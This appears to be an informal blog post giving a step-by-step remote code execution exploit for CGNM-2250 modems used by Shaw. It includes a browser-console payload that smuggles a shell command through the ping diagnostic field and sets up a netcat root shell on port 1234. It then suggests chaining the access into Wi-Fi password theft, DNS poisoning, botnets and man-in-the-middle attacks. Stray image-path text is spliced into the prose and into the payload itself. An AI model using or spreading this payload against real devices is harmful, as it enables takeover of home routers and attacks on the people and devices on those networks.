theres an unpatched rce exploit on the cgnm-2250 modems that is commonly used by shaw for their legacy or lower tier plans. shaws new “bluecurve” modems do not use the same firmware and are (in my opinion) a lot worse from a techy person point of view. this also gives us access to a root user as it is the only user on the device.


  • access to the admin page (login credentials)
  • operating system with netcat installed (kali comes with netcat preinstalled)


  1. login to the router page (default

  2. open up the console on your web browser (chrome in this example)

  3. paste this command into the console:

    $.post("/goform/TestIp", {csrf_token: $("#csrf_token").val(), model: '{"TestIpAddress":"; rm -f /dev/myF; mkfifo /dev/myF; cat /dev/myF | /bin/sh -i 2>&1 | nc -l -p 1234 >/dev/myF;","UserType":"1","inputip":1,"TestMode":0}'}, function (data) {console.log(data)})

    this uses a input sanitization (or lack thereof) exploit in the command input box for ping. (also works with the tracert) the input from the web interface is client side sanitized, but if we send the command using the console it does not sanitize the input on the “server,” which in our case is the router. we can then use netcat to create a listening server and gain a reverse shell that way.

  4. use netcat to the router on port 1234 to connect to the reverse shell

    netcat 1234

netcat screenshot

go wild

have fun with this, i used this to setup automatic restarts every few days as the performance of the router degrades after about a few days of uptime from 300mbps download to only 10mbps download. this odd behaviour is simply fixed by just restartingthe modem.

you could chain this attack with other ones such as a handshake sniffer to grab the wifi password, which is commonly the same as the router admin page (by default), and perhaps pivot to exploiting devices in the network or using this exploit to gain root access and do dns poisoning, turn your network into a botnet, or perform other exploits like MITM attacks (man in the middle attacks)


change your ****ing routers password from the default. please.

especially when the default isonly 4 numbers different from the original

change your ssid while youre at it.